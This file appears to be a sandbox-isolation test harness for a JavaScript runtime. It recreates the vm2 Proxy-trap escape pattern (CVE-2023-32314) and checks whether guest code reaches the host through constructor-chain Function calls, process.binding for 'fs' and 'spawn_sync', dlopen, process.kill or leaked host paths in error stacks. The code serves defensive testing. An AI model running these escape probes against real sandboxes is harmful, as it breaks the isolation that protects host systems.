// CVE-2023-32314 (GHSA-whpj-8f3w-67p5), vm2: some steps of the specification make an object for a proxy's trap (a list of arguments, a
// descriptor); made in the host's realm, its constructor is the host's.
const attacks = {
  "what traps are given": {
    ends: ["ok"],
    run() {
      const got = [];
      const traps = [
        "apply", "construct", "defineProperty", "deleteProperty", "get", "getOwnPropertyDescriptor", "getPrototypeOf",
        "has", "isExtensible", "ownKeys", "preventExtensions", "set", "setPrototypeOf",
      ];
      const handler = Object.fromEntries(
        traps.map((name) => [name, (...values) => (got.push(...values), Reflect[name](...values))]),
      );
      const proxy = new Proxy(function () {}, handler);
      const uses = [
        () => proxy(1, {}),
        () => new proxy([]),
        () => Object.defineProperty(proxy, "x", { value: 1 }),
        () => (proxy.y = 1),
        () => Object.getOwnPropertyDescriptors(proxy),
        () => Object.assign(proxy, { z: 1 }),
        () => "x" in proxy,
        () => proxy.toString(),
        () => JSON.stringify([proxy, { toJSON: proxy }]),
        () => [1].map(proxy),
        () => "a".replace(/a/, proxy),
        () => Reflect.apply(proxy, null, { length: 2 }),
        () => new (class extends proxy {})(),
        () => `${proxy}`,
        () => structuredClone(proxy),
        () => console.log(proxy),
        () => new Response(proxy),
        () => Promise.resolve(1).then(proxy),
        () => setTimeout(proxy, 0),
        () => new ReadableStream({ start: proxy }),
        () => JSON.parse("[1]", proxy),
        () => tag`a${1}b`,
      ];
      const tag = proxy;
      for (const use of uses) {
        try {
          got.push(use());
        } catch (error) {
          got.push(error);
        }
      }
      return probe(...got);
    },
  },
};

const names = Object.getOwnPropertyNames(globalThis);
/** What of a host can be named now, by this code or by what the attack got hold of: "held", or what was reached. */
function probe(...got) {
  const reached = [];
  const say = (what) => void reached.push(what);
  for (const value of [...got, console, fetch, process, import.meta, Buffer]) {
    try {
      const world = value?.constructor?.constructor?.("return this")();
      if (world !== undefined && world !== globalThis) say("a global object that is not the guest's");
    } catch {}
    if (!(value instanceof Error)) continue;
    const [text] =
      /\/(?:home|root|usr|tmp|var|etc|proc|opt|work|rustc)\/[^\s)]*|[\w/]+\.rs\b|\b(?:wasmtime|rquickjs|cargo|panicked)\b|node:internal/.exec(
        `${value.stack} ${value.message}`,
      ) ?? [];
    if (text !== undefined) say(`an error's text tells ${text}`);
  }
  for (const name of ["Deno", "Bun", "require", "module", "exports", "WebAssembly", "std", "os", "__bootstrap"]) {
    if ((0, eval)(`typeof ${name}`) !== "undefined") say(name);
  }
  if (process.mainModule !== undefined) say("process.mainModule");
  if (process.execPath !== "/node" || process.pid !== 1) say("another process");
  for (const open of [
    () => process.binding("fs"),
    () => process.binding("spawn_sync"),
    () => process.dlopen({}, "x"),
    () => process._linkedBinding("fs"),
    () => process.kill(1),
  ]) {
    try {
      say(`${open} gave ${open()}`);
    } catch (error) {
      if (!(error instanceof Error)) say(`${open} threw ${error}`);
    }
  }
  const more = Object.getOwnPropertyNames(globalThis).filter((name) => !names.includes(name));
  if (more.length > 0) say(`the globals ${more}`);
  return reached.length === 0 ? "held" : [...new Set(reached)].join(", ");
}

export default {
  async fetch(request) {
    const name = new URL(request.url).searchParams.get("attack");
    if (name === null) {
      return Response.json(Object.entries(attacks).map(([name, { ends, times = 1 }]) => ({ name, ends, times })));
    }
    return new Response((await attacks[name].run(request)) ?? "held");
  },
};
